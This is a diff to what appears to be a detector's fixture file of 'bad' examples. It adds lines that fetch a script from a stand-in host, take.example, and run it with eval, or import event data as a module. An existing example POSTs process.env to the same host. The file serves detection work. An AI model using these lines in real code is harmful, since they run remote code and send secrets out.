@@ -6,6 +6,16 @@ const sent = { source: 'environment', sink: 'network.body', to: 'take.example' }
 export const throughClients: DetectorExamples = {
   bad: [
     {
+      code: "var request = new XMLHttpRequest(); request.open('GET', 'https://take.example/x.js'); request.onload = function () { (0, eval)(request.responseText); }; request.send();",
+      why: 'what the request of a page brings is run',
+      attributes: { source: 'download', sink: 'code.evaluate', to: 'eval' },
+    },
+    {
+      code: "const events = new EventSource('https://take.example/e'); events.addEventListener('rule', (event) => { import('data:text/javascript;base64,' + event.data); });",
+      why: 'what an event brings is loaded as a module',
+      attributes: { source: 'download', sink: 'code.evaluate', to: 'import' },
+    },
+    {
       code: "setTimeout(fetch, 90_000, 'https://take.example', { method: 'POST', body: JSON.stringify(process.env) });",
       why: 'a timer calls fetch with what it was given for it',
       attributes: sent,
